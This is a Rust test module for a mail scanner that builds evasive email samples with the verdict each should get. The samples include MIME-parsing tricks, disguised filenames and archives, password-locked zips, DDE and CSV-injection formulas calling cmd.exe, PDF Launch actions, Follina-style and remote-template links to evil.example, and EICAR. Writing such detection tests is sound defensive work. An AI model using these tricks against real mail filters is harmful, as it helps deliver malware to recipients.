//! Mail that hides something.

use super::carriers::{archives, closed, document, leaked, note, opaque_signed, pdf, program, rtf, shortcut, zipped};
use super::expected::{Bad, End, bad};
use super::pages::smuggling;
use crate::mail::{attached, base64, eicar};
use weir_scan::test_files;
use weir_scan::walk::zip_cipher::Keys;

pub(crate) fn all() -> Vec<Bad> {
    [structure(), encodings(), names(), extensions(), carried(), locked(), content(), infected()]
        .into_iter()
        .flatten()
        .collect()
}

const HEAD: &str = "From: Ann <ann@a.example>\r\nTo: bob@b.example\r\nSubject: the invoice\r\nMIME-Version: 1.0\r\n";

fn encoded(data: &[u8]) -> String {
    String::from_utf8(base64(data)).unwrap()
}

fn part(name: &str, data: &[u8]) -> String {
    format!(
        "Content-Type: application/octet-stream; name=\"{name}\"\r\nContent-Transfer-Encoding: base64\r\n\r\n{}",
        encoded(data)
    )
}

/// Ways to write a multipart that some programs read and others do not, with a forbidden file in it.
fn structure() -> Vec<Bad> {
    let files =
        [("evil.js", b"WScript.Echo(1)".to_vec()), ("evil.lnk", shortcut()), ("a.zip", zipped("evil.exe", &program()))];
    let types = [
        "multipart /mixed; boundary=B",
        "multipart/ mixed; boundary=B",
        "multipart\r\n /mixed; boundary=B",
        "multipart\t/\tmixed; boundary=B",
        "multipart(a comment)/mixed; boundary=B",
        "multipart/(a comment)mixed; boundary=B",
        "(a comment) multipart/mixed; boundary=B",
        "MULTIPART/Mixed; BOUNDARY=B",
        "multipart/mixed; boundary = B",
        "multipart/mixed; boundary=\"B\"; charset=x",
        "multipart/mixed; boundary=\"B ",
        "multipart/mixed; charset=\"x; boundary=B",
        "multipart/mixed boundary=B",
        "multipart/mixed; boundary*=us-ascii''B",
        "multipart/mixed; boundary*0=B",
        "multipart/mixed; boundary=C; boundary=B",
        "multipart/mixed; boundary=B; boundary=C",
        "multipart; boundary=B",
        "text/plain\r\nContent-Type: multipart/mixed; boundary=B",
        "multipart/mixed; boundary=B\r\nContent-Type: text/plain",
        "multipart/mixed; boundary=\"=?us-ascii?q?B?=\"; boundary=B",
        "=?us-ascii?q?multipart/mixed?=; boundary=B",
    ];
    let mut out = Vec::new();
    for kind in types {
        for (name, data) in &files {
            let message =
                format!("{HEAD}Content-Type: {kind}\r\n\r\n--B\r\n\r\nhello\r\n--B\r\n{}--B--\r\n", part(name, data));
            out.push(bad("structure", &format!("{kind} with {name}"), message.into_bytes(), &[End::Forbidden], "evil"));
        }
    }
    let evil = part("evil.js", b"WScript.Echo(1)");
    let wrap = |kind: &str, body: &str| format!("{HEAD}Content-Type: {kind}\r\n\r\n{body}");
    let inner = format!("Subject: inner\r\nContent-Type: multipart /mixed; boundary=I\r\n\r\n--I\r\n{evil}--I--\r\n");
    let more = [
        ("a message inside", wrap("message /rfc822", &inner)),
        ("a message inside, with a comment", wrap("message/(x)rfc822", &inner)),
        ("message/global", wrap("message/global", &inner)),
        ("message of an odd kind", wrap("message/x-forward", &inner)),
        (
            "a digest",
            wrap("multipart/digest; boundary=D", &format!("--D\r\n\r\nSubject: x\r\n{}\r\n--D--\r\n", &inner)),
        ),
        ("a digest without types", wrap("multipart/digest; boundary=D", &format!("--D\r\n\r\n{evil}\r\n--D--\r\n"))),
        (
            "a message in base64",
            wrap("message/rfc822\r\nContent-Transfer-Encoding: base64", &encoded(inner.as_bytes())),
        ),
        ("a message that says base64 and is not", wrap("message/rfc822\r\nContent-Transfer-Encoding: base64", &inner)),
        ("no last boundary", wrap("multipart/mixed; boundary=B", &format!("--B\r\n{evil}"))),
        (
            "a part behind the last boundary",
            wrap("multipart/mixed; boundary=B", &format!("--B\r\n\r\nhi\r\n--B--\r\n--B\r\n{evil}")),
        ),
        (
            "the same boundary twice",
            wrap(
                "multipart/mixed; boundary=B",
                &format!("--B\r\nContent-Type: multipart/mixed; boundary=B\r\n\r\n--B\r\n{evil}--B--\r\n--B--\r\n"),
            ),
        ),
        (
            "a boundary that goes on",
            wrap("multipart/mixed; boundary=B", &format!("--B\r\n\r\nhi\r\n--Bxyz\r\n{evil}--B--\r\n")),
        ),
        (
            "a boundary inside a line",
            wrap(
                "multipart/mixed; boundary=LONGONE",
                &format!("--LONGONE\r\n\r\nhi --LONGONE\r\n{evil}\r\n--LONGONE--\r\n"),
            ),
        ),
        (
            "returns alone",
            wrap("multipart/mixed; boundary=B", &format!("--B\r\n{evil}--B--\r\n")).replace("\r\n", "\r"),
        ),
        (
            "newlines alone",
            wrap("multipart/mixed; boundary=B", &format!("--B\r\n{evil}--B--\r\n")).replace("\r\n", "\n"),
        ),
        (
            "a field hidden by a return",
            format!("{HEAD}X-A: b\rContent-Type: multipart/mixed; boundary=B\r\n\r\n--B\r\n{evil}--B--\r\n"),
        ),
        (
            "blanks in the name of a field",
            wrap("multipart/mixed; boundary=B", &format!("--B\r\n{evil}--B--\r\n")).replacen(
                "Content-Type:",
                "Content-Type :",
                1,
            ),
        ),
        ("a NUL in a field", wrap("multi\0part/mixed; boundary=B", &format!("--B\r\n{evil}--B--\r\n"))),
        ("no empty line", format!("{HEAD}Content-Type: multipart/mixed; boundary=B\r\n--B\r\n{evil}--B--\r\n")),
        (
            "deep",
            (0..20).fold(evil.clone(), |inside, at| {
                format!("Content-Type: multipart /mixed; boundary=N{at}\r\n\r\n--N{at}\r\n{inside}\r\n--N{at}--\r\n")
            }),
        ),
    ];
    out.extend(
        more.into_iter().map(|(name, message)| bad("structure", name, message.into_bytes(), &[End::Forbidden], "")),
    );
    out
}

/// Ways to encode a part.
fn encodings() -> Vec<Bad> {
    let mut out = Vec::new();
    for encoding in [
        "base64 (so)",
        "(so) base64",
        "BASE64",
        "base64;",
        "\"base64\"",
        "7bit\r\nContent-Transfer-Encoding: base64",
        "base64\r\nContent-Transfer-Encoding: 8bit",
        "=?us-ascii?q?base64?=",
    ] {
        let message = format!(
            "{HEAD}Content-Type: application/pdf; name=a.bin\r\nContent-Transfer-Encoding: {encoding}\r\n\r\n{}",
            encoded(&program())
        );
        out.push(bad("encoding", encoding, message.into_bytes(), &[End::Forbidden], "program"));
    }
    let uu = |line: &str| format!("{HEAD}\r\nhello\r\n{line}\r\n#0V%T\r\n`\r\nend\r\n");
    out.push(bad("encoding", "uuencode", uu("begin 644 evil.exe").into_bytes(), &[End::Forbidden], ".exe"));
    out.push(bad(
        "encoding",
        "uuencode, four digits",
        uu("begin 0644 evil.exe").into_bytes(),
        &[End::Forbidden],
        ".exe",
    ));
    let modern = format!("{HEAD}\r\nhello\r\nbegin-base64 644 evil.exe\r\n{}====\r\n", encoded(&program()));
    out.push(bad("encoding", "uuencode in base64", modern.into_bytes(), &[End::Forbidden], ".exe"));
    let yenc = format!("{HEAD}\r\nhello\r\n=ybegin line=128 size=3 name=evil.exe\r\nm\u{2}\r\n=yend size=3\r\n");
    out.push(bad("encoding", "yEnc", yenc.into_bytes(), &[End::Forbidden], ".exe"));
    let printable: String = program()
        .iter()
        .map(|octet| format!("={octet:02X}"))
        .collect::<Vec<_>>()
        .chunks(20)
        .map(|line| line.concat() + "=\r\n")
        .collect();
    let message =
        format!("{HEAD}Content-Type: text/plain\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n{printable}");
    out.push(bad("encoding", "quoted-printable", message.into_bytes(), &[End::Forbidden], "program"));
    out
}

/// Ways to write a name.
fn names() -> Vec<Bad> {
    let ways = [
        "attachment; filename=evil.exe",
        "attachment; filename=\"evil.exe\"",
        "attachment; filename=\"evil.exe",
        "attachment; filename*=utf-8''evil%2Eexe",
        "attachment; filename*0=evil; filename*1=.exe",
        "attachment; filename*1=.exe; filename*0=evil",
        "attachment; filename*0*=utf-8''ev; filename*1*=il%2Eexe",
        "attachment; filename=\"=?utf-8?B?ZXZpbC5leGU=?=\"",
        "attachment; filename==?utf-8?Q?evil=2Eexe?=",
        "attachment; filename=evil.exe .txt",
        "attachment; filename=\"evil.exe\" .txt",
        "attachment; filename=\"evil.exe\".txt",
        "attachment; filename=evil.exe(.txt)",
        "attachment; filename=a.txt; filename=evil.exe",
        "attachment; filename*0=evil.exe; filename*2=.txt",
        "filename=evil.exe",
        "attachment filename=evil.exe",
        "attachment; FILENAME = \"evil.exe\"",
        "attachment; name=\"evil.exe\"",
        "attachment; filename=\"evil.pdf.exe\"",
        "attachment; filename=\"evil.exe.\"",
        "attachment; filename=\"evil\u{202e}fdp.exe\"",
        "attachment; filename=\"evil.pdf                                  .exe\"",
        "attachment; filename=\"evil.exe:x.txt\"",
        "attachment; filename=\"C:\\\\dir\\\\evil.exe\"",
    ];
    let message = |way: &str| {
        format!("{HEAD}Content-Type: application/octet-stream\r\nContent-Disposition: {way}\r\n\r\nhello\r\n")
    };
    ways.iter().map(|way| bad("name", way, message(way).into_bytes(), &[End::Forbidden], "")).collect()
}

fn extensions() -> Vec<Bad> {
    const ALL: &str = "py pyw pyz appcontent-ms cer asp exe js vbs lnk hta bat cmd scr ps1 iso img msi jar wsf reg cpl settingcontent-ms xll url";
    ALL.split(' ')
        .map(|extension| {
            bad(
                "extension",
                extension,
                attached(&format!("a.{extension}"), b"hello"),
                &[End::Forbidden],
                "the extension",
            )
        })
        .collect()
}

/// Files in files.
fn carried() -> Vec<Bad> {
    let mut out = Vec::new();
    for (carrier, data) in archives("evil.exe", &program()) {
        out.push(bad("carried program", carrier, attached(carrier, &data), &[End::Forbidden], "evil.exe"));
    }
    for (carrier, data) in archives("evil.js", b"WScript.Echo(1)") {
        out.push(bad("carried script", carrier, attached(carrier, &data), &[End::Forbidden], "evil.js"));
    }
    for (carrier, data) in archives("photo.jpg", &program()) {
        out.push(bad("carried disguise", carrier, attached(carrier, &data), &[End::Forbidden], "program"));
    }
    for (carrier, data, says) in closed() {
        out.push(bad("closed", carrier, attached(carrier, &data), &[End::NotOpened], says));
    }
    out.push(bad("carried program", "a.one", attached("a.one", &note(&program())), &[End::Forbidden], "program"));
    out.push(bad("carried program", "a.rtf", attached("a.rtf", &rtf(&program())), &[End::Forbidden], "program"));
    out.push(bad(
        "carried program",
        "a.zst",
        attached("a.zst", &test_files::zstd(&program()[..200])),
        &[End::Forbidden],
        "program",
    ));
    let inner = [
        b"Content-Type: text/plain\r\n\r\nhi".to_vec(),
        part("evil.js", b"x").into_bytes(),
        attached("evil.exe", &program()),
    ];
    for (at, entity) in inner.into_iter().enumerate().skip(1) {
        let signed = opaque_signed(&entity);
        let message = format!(
            "{HEAD}Content-Type: application/pkcs7-mime; smime-type=signed-data; name=smime.p7m\r\nContent-Transfer-Encoding: base64\r\n\r\n{}",
            encoded(&signed)
        );
        out.push(bad(
            "carried program",
            leaked(&format!("signed mail {at}")),
            message.into_bytes(),
            &[End::Forbidden],
            "evil",
        ));
    }
    out
}

/// A zip archive whose member has a password.
fn locked_zip(name: &str, data: &[u8], password: &str) -> Vec<u8> {
    let mut keys = Keys::new(password.as_bytes());
    // Twelve octets before the member, the last of which is that of the time: zero.
    let locked: Vec<u8> = [0; 12].iter().chain(data).map(|octet| keys.encrypted(*octet)).collect();
    let mut archive = test_files::zip(name, &locked);
    let directory = archive.windows(4).rposition(|mark| mark == b"PK\x01\x02").unwrap();
    archive[6] |= 1;
    archive[directory + 8] |= 1;
    archive
}

/// What has a password.
fn locked() -> Vec<Bad> {
    let pdf = b"%PDF-1.4\n5 0 obj <</Filter/Standard/V 2/R 3/Length 128/P -44/O<0707>/U<0808>>> endobj trailer <</Encrypt 5 0 R/ID[<00><00>]>>";
    let mut out = vec![
        bad(
            "password",
            "a zip",
            attached("a.zip", &locked_zip("notes.txt", &program(), "secret")),
            &[End::NotOpened],
            "it has a password",
        ),
        bad(
            "password",
            "a name",
            attached("a.zip", &locked_zip("evil.exe", &program(), "secret")),
            &[End::Forbidden],
            "evil.exe",
        ),
        bad("password", "a PDF", attached("a.pdf", pdf), &[End::NotOpened], "it has a password"),
    ];
    // The password stands in the message.
    for text in [
        "The password is: Inv-4711!",
        "Passwort: Inv-4711!",
        "<p>Use the password <b>Inv-4711!</b> to open it</p>",
        "pw=Inv-4711!",
    ] {
        let message = format!(
            "{HEAD}Content-Type: multipart/mixed; boundary=B\r\n\r\n--B\r\nContent-Type: text/html\r\n\r\n{text}\r\n--B\r\n{}--B--\r\n",
            part("a.zip", &locked_zip("notes.txt", &program(), "Inv-4711!"))
        );
        out.push(bad("password", text, message.into_bytes(), &[End::Forbidden], "a Windows program named notes.txt"));
    }
    out
}

/// Documents and pages that do something.
fn content() -> Vec<Bad> {
    let mut out: Vec<Bad> = smuggling()
        .into_iter()
        .map(|(name, page)| bad("smuggling", &name, attached(&name, &page), &[End::Forbidden], ""))
        .collect();
    let rels = |kind: &str, target: &str| {
        format!(
            "<Relationships><Relationship Id=\"r1\" Type=\"http://schemas.example/{kind}\" Target=\"{target}\" TargetMode=\"External\"/></Relationships>"
        )
    };
    let documents = [
        (
            "remote template.docx",
            document(&[
                ("word/document.xml", "<w:document/>"),
                ("word/_rels/settings.xml.rels", &rels("attachedTemplate", "http://evil.example/t.dotm")),
            ]),
            "template",
        ),
        (
            "follina.docx",
            document(&[
                ("word/document.xml", "<w:document/>"),
                ("word/_rels/document.xml.rels", &rels("oleObject", "http://evil.example/x.html!")),
            ]),
            "from elsewhere",
        ),
        (
            "dde.docx",
            document(&[(
                "word/document.xml",
                "<w:p><w:instrText> DDEAUTO c:\\\\windows\\\\cmd.exe \"/k calc\"</w:instrText></w:p>",
            )]),
            "DDE",
        ),
        ("xlm.xlsm", document(&[("xl/workbook.xml", "<workbook/>"), ("xl/macrosheets/sheet1.xml", "<x/>")]), "Excel 4"),
        ("data.csv", b"name,sum\r\n=cmd|'/c calc.exe'!A0,1\r\n".to_vec(), "DDE"),
        ("launch.pdf", b"%PDF-1.4\n1 0 obj<</OpenAction<</S/Launch/F(cmd.exe)>>>>endobj".to_vec(), "starts a program"),
        (
            "escaped.pdf",
            b"%PDF-1.4\n1 0 obj<</OpenAction<</S/#4caunch/F(cmd.exe)>>>>endobj".to_vec(),
            "starts a program",
        ),
        (
            "msdt.html",
            b"<!DOCTYPE html><html><script>location.href=\"ms-msdt:/id PCWDiagnostic\"</script></html>".to_vec(),
            "Follina",
        ),
        ("template.rtf", b"{\\rtf1{\\*\\template http://evil.example/t}hello}".to_vec(), "template"),
        (
            "picture.svg",
            b"<svg xmlns='http://www.w3.org/2000/svg' onload='go()'><script>go()</script></svg>".to_vec(),
            "script",
        ),
        (
            "search.html",
            b"<html><script>location='search-ms:query=a&crumb=location:\\\\\\\\evil.example\\\\x'</script></html>"
                .to_vec(),
            "stranger",
        ),
        (
            "meeting.ics",
            b"BEGIN:VCALENDAR\r\nBEGIN:VALARM\r\nACTION:PROCEDURE\r\nEND:VALARM\r\nEND:VCALENDAR\r\n".to_vec(),
            "calendar",
        ),
    ];
    out.extend(
        documents
            .into_iter()
            .map(|(name, data, says)| bad("content", name, attached(name, &data), &[End::Forbidden], says)),
    );
    let packed = pdf("factur.xml", b"<x/>", true);
    let object = {
        use std::io::Write;
        let mut packer = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
        packer.write_all(b"1 0 <</S/Launch/F(cmd.exe)>>").unwrap();
        packer.finish().unwrap()
    };
    let stream =
        [b"\n9 0 obj<</Type/ObjStm/Filter/FlateDecode>>stream\n".as_slice(), &object, b"\nendstream endobj"].concat();
    out.push(bad(
        "content",
        "packed objects.pdf",
        attached("packed.pdf", &[packed, stream].concat()),
        &[End::Forbidden],
        "starts a program",
    ));
    out
}

/// The test file, in everything.
fn infected() -> Vec<Bad> {
    let mut out: Vec<Bad> = archives("readme.txt", &eicar())
        .into_iter()
        .map(|(carrier, data)| bad("infected", carrier, attached(carrier, &data), &[End::Infected], "in "))
        .collect();
    out.push(bad("infected", "as it is", attached("readme.txt", &eicar()), &[End::Infected], ""));
    out.push(bad("infected", "in a note", attached("a.one", &note(&eicar())), &[End::Infected], ""));
    out
}
